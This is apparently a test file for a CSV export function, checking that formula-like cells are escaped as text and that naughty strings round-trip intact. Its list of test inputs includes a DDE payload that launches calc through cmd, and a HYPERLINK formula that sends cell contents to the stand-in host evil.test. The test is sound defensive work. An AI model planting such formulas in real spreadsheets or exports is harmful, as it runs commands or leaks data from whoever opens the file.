/** Row 4.15: what a spreadsheet would run is text for it, and what others read is what we wrote. */
import fc from "fast-check";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import naughty from "big-list-of-naughty-strings/blns.json" with { type: "json" };
import { csvStart, toCsv } from "../../worker/http/csv.ts";

const read = (text: string): string[][] => parse(text, { bom: true, relax_quotes: false, skip_empty_lines: false });
const runs = /^[=+\-@\t\r＝＋－＠]/;
/** What the cell says once the apostrophe that makes it text is taken for what it is. */
const said = (cell: string): string => (cell.startsWith("'") && runs.test(cell.slice(1)) ? cell.slice(1) : cell);

describe("4.15 a file for spreadsheets", () => {
  const formulas = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
  ];
  it.each(formulas)("holds %j as text", (text) => {
    const [[cell = ""] = []] = read(toCsv([text], [])).slice(0);
    expect(cell).toBe(`'${text}`);
  });

  it("keeps numbers as numbers, and nothing as nothing", () => {
    expect(toCsv(["a"], [[-5], [1.5], [null], [Number.NaN]])).toBe('\uFEFF"a"\r\n"-5"\r\n"1.5"\r\n""\r\n""\r\n');
    expect(csvStart(["a"]).charCodeAt(0)).toBe(0xfeff);
  });

  it("is read by a reader of others as it was written, naughty strings and all", () => {
    const rows = (naughty as string[]).map((text, at) => [text, at, `${text}"${text}`]);
    const back = read(toCsv(["a", "b", "c"], rows)).slice(1);
    expect(back.map(([a = "", b, c = ""]) => [said(a), Number(b), said(c)])).toEqual(rows);
    for (const row of back) for (const cell of [row[0] ?? "", row[2] ?? ""]) expect(runs.test(cell)).toBe(false);
  });

  it("for any text at all", () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: "binary" }), { minLength: 2, maxLength: 2 }), { minLength: 1 }),
        (rows) => {
          const back = read(toCsv(["a", "b"], rows)).slice(1);
          expect(back.map((row) => row.map(said))).toEqual(rows.map((row) => row.map(said)));
          for (const row of back) for (const cell of row) expect(runs.test(cell)).toBe(false);
        },
      ),
    );
  });
});
